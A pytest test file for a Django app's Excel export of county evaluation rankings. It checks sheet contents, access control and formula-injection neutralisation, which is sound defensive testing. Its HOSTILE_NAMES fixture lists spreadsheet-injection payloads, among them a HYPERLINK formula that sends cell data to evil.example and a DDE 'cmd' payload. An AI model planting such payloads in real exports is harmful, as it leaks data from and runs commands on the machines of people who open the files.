"""The Excel export of a round's results: its sheets and values, formula neutralisation
of every text cell, and the same scoping as the results page."""

from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from evaluation.export import safe_text
from organisations.models import Department, Township

from .round_factories import evaluation_world, score_of

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _export(client, world, user_key="office"):
    client.force_login(world.users[user_key])
    return client.get(reverse("evaluation:export", args=[world.round.pk]))


def _workbook(response):
    return load_workbook(BytesIO(response.content))


def _values(worksheet) -> list[list]:
    return [list(row) for row in worksheet.iter_rows(values_only=True)]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("城关街道", "城关街道"),
        ("a=b", "a=b"),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_safe_text_neutralises_formula_triggers_only(value, expected):
    assert safe_text(value) == expected


def test_county_office_export_has_rankings_heat_maps_and_notes(client):
    world = evaluation_world()

    response = _export(client, world)

    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "attachment;" in response["Content-Disposition"]
    workbook = _workbook(response)
    assert workbook.sheetnames == ["部门排名", "乡镇排名", "乡镇评部门", "部门评乡镇", "异常与缺交"]
    assert _values(workbook["部门排名"])[1:] == [
        [1, "县0局", 90, 80, 3, 0, 0, 0, 86],
        [2, "县1局", 90, 80, 3, 0, 0, 0, 85],
    ]
    heat = _values(workbook["乡镇评部门"])
    assert heat[0] == ["被评部门 \\ 评价乡镇", "第0镇", "第1镇", "第2镇"]
    assert heat[2] == ["县1局", score_of(0, 1), score_of(1, 1), score_of(2, 1)]
    assert _values(workbook["部门评乡镇"])[1] == [
        "县0局",
        score_of(0, 0),
        score_of(0, 1),
        score_of(0, 2),
    ]
    assert _values(workbook["异常与缺交"])[1:] == [
        ["各项得分完全相同", world.round.sheets.order_by("direction", "pk").first().pk]
        + ["部门评价乡镇(街道)", "县0局", "第0镇", "已提交", "各项均为同一分值"]
    ]


def test_every_text_cell_starting_with_a_formula_trigger_is_neutralised(client):
    world = evaluation_world(departments=3, townships=3)
    for unit, name in zip(world.departments, HOSTILE_NAMES[:3], strict=True):
        Department.objects.filter(pk=unit.pk).update(name=name)
    for unit, name in zip(world.townships, HOSTILE_NAMES[3:], strict=True):
        Township.objects.filter(pk=unit.pk).update(name=name)

    workbook = _workbook(_export(client, world))

    texts = []
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (worksheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for name in HOSTILE_NAMES:
        # XML stores a carriage return as a line feed; the text stays neutralised.
        stored = name.replace("\r", "\n")
        assert "'" + stored in texts
        assert stored not in texts
    assert "'" + HOSTILE_NAMES[0] in [c.value for c in workbook["乡镇评部门"]["A"]]


def test_township_export_holds_only_its_own_result_and_sheets(client):
    world = evaluation_world()

    workbook = _workbook(_export(client, world, "township_head"))

    assert _values(workbook["部门排名"])[1:] == []
    assert [row[:2] for row in _values(workbook["乡镇排名"])[1:]] == [[1, "第0镇"]]
    assert _values(workbook["乡镇评部门"]) == [
        ["被评部门 \\ 评价乡镇", "第0镇"],
        ["县0局", score_of(0, 0)],
        ["县1局", score_of(0, 1)],
    ]
    everything = str([_values(ws) for ws in workbook.worksheets])
    assert "第1镇" not in everything
    assert "第2镇" not in everything


@pytest.mark.parametrize(
    ("user_key", "status"),
    [("other_county_office", 403), ("other_county_head", 403), ("township_head", 403)],
)
def test_export_is_denied_like_the_page(client, user_key, status):
    world = evaluation_world(stage="closed")

    assert _export(client, world, user_key).status_code == status


def test_anonymous_export_is_sent_to_login(client):
    world = evaluation_world()

    response = client.get(reverse("evaluation:export", args=[world.round.pk]))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))
